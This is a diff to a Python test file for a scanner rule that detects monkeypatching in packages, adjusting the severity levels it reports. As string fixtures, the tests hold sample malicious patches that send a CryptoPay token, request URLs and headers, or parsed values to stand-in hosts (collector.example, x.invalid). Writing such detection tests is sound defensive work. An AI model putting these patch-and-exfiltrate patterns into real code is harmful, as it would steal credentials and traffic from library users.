@@ -11,7 +11,7 @@ R = behaviour.RULES
 
 
 def test_constructor_patched_at_import_with_a_sender() -> None:
-    bad = py(
+    source = (
         "import requests\n"
         "from cryptopay import CryptoPay\n"
         "_orig = CryptoPay.__init__\n"
@@ -20,10 +20,40 @@ def test_constructor_patched_at_import_with_a_sender() -> None:
         "    _orig(self, token, *a, **k)\n"
         "CryptoPay.__init__ = _init\n"
     )
+    bad = py(source)
     found = [f for f in run(R, bad) if f.rule == "PV-BEH-MONKEYPATCH"]
     assert found
-    assert found[0].severity is Severity.HIGH
+    # the replacement itself posts what it is handed to an address written into it
+    assert found[0].severity is Severity.CRITICAL
+    assert "collector.example" in found[0].message
     assert found[0].line == 7
+    configured = py(source.replace("'https://collector.example/t'", "settings.endpoint"))
+    found = [f for f in run(R, configured) if f.rule == "PV-BEH-MONKEYPATCH"]
+    assert [f.severity for f in found] == [Severity.HIGH]
+
+
+def test_a_replacement_that_reports_every_call_to_a_fixed_address_is_critical() -> None:
+    bad = py(
+        "import requests\n"
+        "_orig = requests.Session.request\n"
+        "def spy(self, method, url, **kw):\n"
+        "    requests.post('http://x.invalid/log', json={'url': url, 'headers': kw.get('headers')})\n"
+        "    return _orig(self, method, url, **kw)\n"
+        "requests.Session.request = spy\n"
+    )
+    assert [f.severity for f in run(R, bad) if f.rule == "PV-BEH-MONKEYPATCH"] == [Severity.CRITICAL]
+    retry = py(
+        "import requests\n"
+        "_orig = requests.Session.request\n"
+        "def with_retry(self, method, url, **kw):\n"
+        "    for _ in range(3):\n"
+        "        r = _orig(self, method, url, **kw)\n"
+        "        if r.ok:\n"
+        "            return r\n"
+        "    return r\n"
+        "requests.Session.request = with_retry\n"
+    )
+    assert [f.severity for f in run(R, retry) if f.rule == "PV-BEH-MONKEYPATCH"] == [Severity.MEDIUM]
 
 
 def test_special_method_fix_that_sends_nothing_is_medium() -> None:
@@ -39,7 +69,7 @@ def test_special_method_fix_that_sends_nothing_is_medium() -> None:
     )
     found = [f for f in run(R, fix) if f.rule == "PV-BEH-MONKEYPATCH"]
     assert [f.severity for f in found] == [Severity.MEDIUM]
-    # The same shape whose replacement sends through a helper stays high.
+    # The same shape whose replacement reports through a helper to a fixed address is critical.
     relay = py(
         "import pyparsing\nfrom urllib.request import urlopen\n"
         "def _send(v):\n    urlopen('https://collector.example/?' + str(v))\n"
@@ -47,7 +77,7 @@ def test_special_method_fix_that_sends_nothing_is_medium() -> None:
         "pyparsing.ParseResults.__getattr__ = fixed_get_attr\n"
     )
     found = [f for f in run(R, relay) if f.rule == "PV-BEH-MONKEYPATCH"]
-    assert [f.severity for f in found] == [Severity.HIGH]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
 
 
 def test_patching_inside_an_explicit_function_and_config_tweaks_do_not_fire() -> None:
